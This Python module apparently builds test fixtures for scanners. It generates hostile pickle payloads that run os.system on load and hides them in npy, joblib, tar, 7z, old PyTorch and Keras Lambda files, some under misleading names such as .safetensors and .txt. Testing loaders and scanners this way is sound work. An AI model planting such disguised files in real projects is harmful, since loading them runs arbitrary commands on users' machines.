"""Hostile pickles inside of other formats, and under misleading file names."""

from __future__ import annotations

import io
import json
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import joblib
import numpy as np

from hostile.file import HostileFile, Trigger
from hostile.opcodes import payload, plain, zipped


class Call:
    """Pickled as a call of ``os.system``."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def container_files(command: str) -> Iterator[HostileFile]:
    """Yield one hostile file per container format."""
    hidden = payload(command)
    objects = np.array([Call(command), None], object)
    yield HostileFile("an array of objects", _npy(objects), Trigger.NUMPY, suffix=".npy")
    yield HostileFile("arrays of objects", _npz(objects), Trigger.OTHER, suffix=".npz")
    yield HostileFile("an array of objects in joblib", _joblib(objects, 0), Trigger.JOBLIB, suffix=".joblib")
    for method in ("zlib", "gzip", "bz2", "lzma", "xz"):
        content = _joblib({"model": Call(command)}, (method, 3))
        yield HostileFile(f"joblib with {method}", content, Trigger.JOBLIB, suffix=".joblib")
    for suffix in (
        ".bin",
        ".pt",
        ".pth",
        ".h5",
        ".keras",
        ".onnx",
        ".npy",
        ".txt",
        ".dat",
        ".json",
        ".safetensors",
        "",
    ):
        yield HostileFile(f"a pickle called {suffix or 'nothing'}", hidden, suffix=suffix)
    yield HostileFile("a zip called .bin", zipped(hidden), Trigger.OTHER, suffix=".bin")
    yield HostileFile("a tar archive", _tar(hidden), Trigger.OTHER, suffix=".tar")
    yield HostileFile("a tar archive with gzip", _tar(hidden, "gz"), Trigger.OTHER, suffix=".tgz")
    yield HostileFile("a 7z archive", _seven_zip("data.pkl", hidden), Trigger.OTHER, suffix=".7z")
    yield HostileFile("PyTorch's older format", _old_torch(hidden), Trigger.OTHER, suffix=".pt")
    yield HostileFile("PyTorch's older format, protocol 0", _old_torch(plain(command)), Trigger.OTHER, suffix=".bin")
    yield HostileFile("Keras with a lambda", _keras(command), Trigger.OTHER, suffix=".keras")


def _npy(array: np.ndarray) -> bytes:
    file = io.BytesIO()
    np.save(file, array, allow_pickle=True)
    return file.getvalue()


def _npz(array: np.ndarray) -> bytes:
    file = io.BytesIO()
    np.savez_compressed(file, array=array)
    return file.getvalue()


def _joblib(value: object, compress: int | tuple[str, int]) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file, compress)
    return file.getvalue()


def _tar(content: bytes, compression: str = "") -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=f"w:{compression}") as archive:
        member = tarfile.TarInfo("model/data.pkl")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return file.getvalue()


def _seven_zip(file_name: str, content: bytes) -> bytes:
    """A 7z archive with one stored file; see 7zFormat.txt in the sources of 7-Zip."""
    encoded = b"\0" + file_name.encode("utf-16-le") + b"\0\0"
    size = _number(len(content))
    pack = b"\x06" + _number(0) + _number(1) + b"\x09" + size + b"\0"
    unpack = b"\x07\x0b\x01\0\x01\x01\0\x0c" + size + b"\x0a\x01" + struct.pack("<L", zlib.crc32(content)) + b"\0"
    files = b"\x05\x01\x11" + _number(len(encoded)) + encoded + b"\0"
    header = b"\x01\x04" + pack + unpack + b"\0" + files + b"\0"
    start = struct.pack("<QQL", len(content), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<L", zlib.crc32(start)) + start + content + header


def _number(value: int) -> bytes:
    """A number of up to 14 bits in the 7z format."""
    assert value < 1 << 14
    return bytes([value]) if value < 0x80 else bytes([0x80 | value >> 8, value & 0xFF])


def _old_torch(content: bytes) -> bytes:
    """The pickles of ``torch.save`` before PyTorch 1.6: a magic number, a protocol, the system, the object."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return (
        magic
        + b"\x80\x02M\xe9\x03."
        + b"\x80\x02}q\x00X\x0d\x00\x00\x00little_endianq\x01\x88s."
        + content
        + b"\x80\x02]q\x00."
    )


def _keras(command: str) -> bytes:
    """A Keras 3 model with a Lambda layer. Its code is text here instead of byte code."""
    function = {"class_name": "__lambda__", "config": {"code": f"import os; os.system({command!r})"}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": function}}
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        archive.writestr("config.json", json.dumps(config))
    return file.getvalue()
